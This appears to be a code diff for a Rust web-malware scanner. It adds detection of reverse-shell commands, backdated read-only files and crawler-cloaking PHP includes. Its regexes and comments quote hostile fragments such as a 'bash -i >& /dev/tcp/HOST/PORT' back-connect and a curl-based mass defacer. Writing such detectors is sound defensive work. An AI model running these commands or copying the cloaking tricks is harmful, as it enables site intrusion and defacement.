@@ -102,7 +102,9 @@ static MAY_MATCH: LazyLock<Regex> = LazyLock::new(|| {
         // Two escaped letters close together (a name spelled in escape codes, not binary bytes).
         r"\\(?:x[4-7][0-9a-f]|1[0-7]{2})[a-z0-9_]{0,3}\\(?:x[4-7][0-9a-f]|1[0-7]{2})|",
         // cPanel's login port as a page's query (`?:2083`, `$_GET[":2083"]`).
-        r"[?'\x22]:20(?:8[2367]|9[56])\b",
+        r"[?'\x22]:20(?:8[2367]|9[56])\b|",
+        // A back-connect's command (`bash -i >& /dev/tcp/…`, `mkfifo … | nc`).
+        r"/dev/(?:tcp|udp)/|\bsh\s+-i\b|\bmkfifo\b",
     ))
     .expect("pattern compiles")
 });
@@ -275,7 +277,9 @@ pub fn analyze_sharing(text: &[u8], t: &[Token<'_>], o: Options, shared: &Shared
 
     // Anti-forensics.
     if let Some((p, at)) = f.backdated {
-        let danger = match (p, o.small || f.self_delete.is_some()) {
+        // (Or kept from the owner's changes too: fresh103's re-infector puts its shell back,
+        // backdated and read-only.)
+        let danger = match (p, o.small || f.self_delete.is_some() || f.made_read_only) {
             (PastTime::DaysAgo | PastTime::FixedDate, true) => Danger::High,
             (PastTime::AnotherFile, true) => Danger::Medium,
             // In a large file alone (test suites set fixed dates on their fixtures): weak.
@@ -376,11 +380,15 @@ pub fn analyze_sharing(text: &[u8], t: &[Token<'_>], o: Options, shared: &Shared
         // (Or a static page included for crawlers and the site's PHP for everyone else, in the
         // `else` branch: fresh100's cloaker of a Laravel site. A PHP site renders its pages for
         // crawlers itself; a single-page application's snapshot is for one made of scripts.)
+        // (Or, when a test of the visitor for a crawler holds, one PHP file included, and
+        // another in the other branches: fresh100's `page-info.php` gives Googlebot the gambling
+        // `page-info1.php`, people `page-info2.php`.)
         let stored_page = || {
             (f.stops
                 && (f.referrer || (f.redirect && prints_kept_file(t, &[b".txt"])) || prints_kept_file(t, &[b".php"]))
                 && (fetch || includes_kept_page(t)))
                 || includes_kept_page_else_php(t)
+                || includes_other_php_for_crawlers(t)
         };
         if f.crawler_words && (((fetch || f.redirect) && f.url_literal) || from_search || stored_page()) {
             // The signs are gathered over the whole file: in a large one (a cache plugin that
@@ -481,6 +489,20 @@ pub fn analyze_sharing(text: &[u8], t: &[Token<'_>], o: Options, shared: &Shared
     let shell = f.has(F::Shell) || t.iter().any(|x| matches!(x.tok, Tok::Backtick(_)));
     if shell && let Some(at) = download_and_run(t) {
         add(Why::DownloadsProgram, Danger::High, at);
+    }
+    // A back-connect written whole in a command (fresh103's `exec('bash -c "bash -i >&
+    // /dev/tcp/HOST/PORT 0>&1"')`): the same reading as a shell script's.
+    if shell
+        && let Some(at) = t.iter().find_map(|x| match &x.tok {
+            Tok::Str(q) | Tok::Backtick(q)
+                if q.value.len() <= SHORT_COMMAND && crate::programs::SHELL_TO_NETWORK.is_match(q.value) =>
+            {
+                Some(x.at)
+            }
+            _ => None,
+        })
+    {
+        add(Why::RemoteShell, Danger::Critical, at);
     }
     // A mass defacer: it walks the folders and has a shell download a page into each one's
     // home page (fresh84's `curl https://…/tes.html >> $dir/index.php` in a `scandir` loop).
@@ -744,6 +766,69 @@ fn includes_kept_page_else_php(t: &[Token<'_>]) -> bool {
     })
 }
 
+/// Whether an `if` whose test names a crawler (`is_bot(…)`, `$is_spider`) includes one PHP file
+/// as its first statement, and a branch after it (`elseif`, `else`) includes another.
+fn includes_other_php_for_crawlers(t: &[Token<'_>]) -> bool {
+    // The kept PHP file included by the statement at `i`, if it is one.
+    let included = |i: usize| -> Option<Vec<u8>> {
+        if !t.get(i).and_then(ident).is_some_and(crate::php::is_include_word) {
+            return None;
+        }
+        (i + 1..t.len().min(i + 6))
+            .take_while(|&k| !is_op(t.get(k), b";"))
+            .filter_map(|k| t.get(k).and_then(str_value))
+            .find(|v| names_kept_file(v, &[b".php"]))
+            .map(|v| v.to_ascii_lowercase())
+    };
+    let names_crawler = |x: &Token<'_>| {
+        let w = match &x.tok {
+            Tok::Ident(w) | Tok::Var(w) => *w,
+            _ => return false,
+        };
+        let w = w.to_ascii_lowercase();
+        [&b"bot"[..], b"crawler", b"spider"].iter().any(|c| memchr::memmem::find(&w, c).is_some())
+    };
+    let mut read = 0;
+    (0..t.len().saturating_sub(2)).any(|i| {
+        if !(ident_is(t.get(i), b"if") && is_op(t.get(i + 1), b"(")) {
+            return false;
+        }
+        let Some(close) = block_end(t, i + 1) else { return false };
+        if !t[i + 2..close].iter().any(names_crawler) || !is_op(t.get(close + 1), b"{") {
+            return false;
+        }
+        let Some(first) = included(close + 2) else { return false };
+        read += 1;
+        if read > MAX_WRITES_READ {
+            return false;
+        }
+        // The branches after it, each one's first statement.
+        let mut end = block_end(t, close + 1);
+        for _ in 0..4 {
+            let Some(e) = end else { return false };
+            let open = if ident_is(t.get(e + 1), b"elseif")
+                || (ident_is(t.get(e + 1), b"else") && ident_is(t.get(e + 2), b"if"))
+            {
+                let paren = if ident_is(t.get(e + 1), b"elseif") { e + 2 } else { e + 3 };
+                let Some(c) = block_end(t, paren) else { return false };
+                c + 1
+            } else if ident_is(t.get(e + 1), b"else") {
+                e + 2
+            } else {
+                return false;
+            };
+            if !is_op(t.get(open), b"{") {
+                return false;
+            }
+            if included(open + 1).is_some_and(|other| other != first) {
+                return true;
+            }
+            end = block_end(t, open);
+        }
+        false
+    })
+}
+
 /// The `}` closing the block opened at `open`, within `SHORT_BLOCK` tokens.
 fn block_end(t: &[Token<'_>], open: usize) -> Option<usize> {
     let mut depth = 0usize;
@@ -943,6 +1028,8 @@ fn pipes_to_interpreter(after: &[u8]) -> bool {
 
 /// The most literal text joined for `download_and_run`.
 const MAX_COMMAND_TEXT: usize = 1 << 20;
+/// The longest literal read as one command line for a back-connect.
+const SHORT_COMMAND: usize = 4096;
 
 /// Where the file's literals (commands are often built from several) hold a download that is
 /// then started: the literals joined by spaces, never comments.
